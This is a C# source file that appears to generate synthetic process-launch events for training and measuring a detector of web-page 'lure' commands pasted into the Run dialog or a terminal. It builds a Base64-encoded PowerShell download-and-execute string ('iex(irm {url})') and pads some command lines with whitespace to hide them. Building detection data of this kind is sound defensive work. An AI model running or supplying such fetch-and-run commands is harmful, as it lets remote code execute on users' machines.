using Changeling.Catalogues;
using Changeling.Events;

namespace Changeling.Training;

/// <summary>
/// Launches that a web page talks a user into, in every combination of command, address, comment and form of the image, from
/// <c>Words/lures.txt</c>.
/// </summary>
internal static class MadeLures
{
    private const int PerCommand = 10;
    private const double CommentShare = 0.4;
    private const string Explorer = @"C:\Windows\explorer.exe";

    private static readonly WordFile File = OwnRow.File("lures.txt");

    /// <summary>Who starts them: the Run dialog most of the time, then a terminal, then a browser.</summary>
    private static readonly string[] Parents =
    [
        Explorer, Explorer, Explorer, Explorer, Explorer, Explorer, @"C:\Windows\System32\cmd.exe",
        @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", @"C:\Program Files\Google\Chrome\Application\chrome.exe",
        @"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
    ];

    /// <summary>For training.</summary>
    public static IEnumerable<ProcessEvent> All(Random random) => Of("", random);

    /// <summary>For measuring: no command, comment or address of these is trained on.</summary>
    public static IEnumerable<ProcessEvent> Measured(Random random) => Of("measured_", random);

    private static IEnumerable<ProcessEvent> Of(string part, Random random)
    {
        var (commands, comments, urls) =
            (File[part + "commands"].Texts, File[part + "comments"].Texts, File[part + "urls"].Texts);
        foreach (var command in commands)
        {
            for (var i = 0; i < PerCommand; i++)
            {
                var url = Pick(urls, random);
                var line = command.Replace("{b64}", OwnRow.Encoded($"iex(irm {url})"), StringComparison.Ordinal)
                    .Replace("{url}", url, StringComparison.Ordinal)
                    .Replace("{host}", Host(url), StringComparison.Ordinal);
                var comment = random.NextDouble() < CommentShare
                    ? new string(' ', random.Next(1, 60)) + Pick(comments, random)
                    : "";
                yield return Start(line + comment, Pick(Parents, random));
            }
        }
    }

    private static ProcessEvent Start(string line, string parent)
    {
        var image = line.StartsWith('"') ? line[1..line.IndexOf('"', 1)] : line[..line.IndexOf(' ', StringComparison.Ordinal)];
        var name = image[(image.LastIndexOf('\\') + 1)..].ToLowerInvariant();
        if (!name.EndsWith(".exe", StringComparison.Ordinal)) name += ".exe";
        return new()
        {
            Time = DateTimeOffset.UnixEpoch,
            Host = new("made"),
            Format = "synthetic",
            User = new("user", "CORP"),
            Child = new()
            {
                Name = name,
                Path = name == "powershell.exe"
                    ? @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
                    : @"C:\Windows\System32\" + name,
                CommandLine = line,
                Integrity = IntegrityLevel.Medium,
            },
            Parent = new() { Name = parent[(parent.LastIndexOf('\\') + 1)..].ToLowerInvariant(), Path = parent },
        };
    }

    private static string Host(string url)
    {
        var host = url[(url.IndexOf("//", StringComparison.Ordinal) is >= 0 and var at ? at + 2 : 0)..];
        return host[..host.IndexOf('/', StringComparison.Ordinal)];
    }

    private static string Pick(string[] from, Random random) => from[random.Next(from.Length)];
}
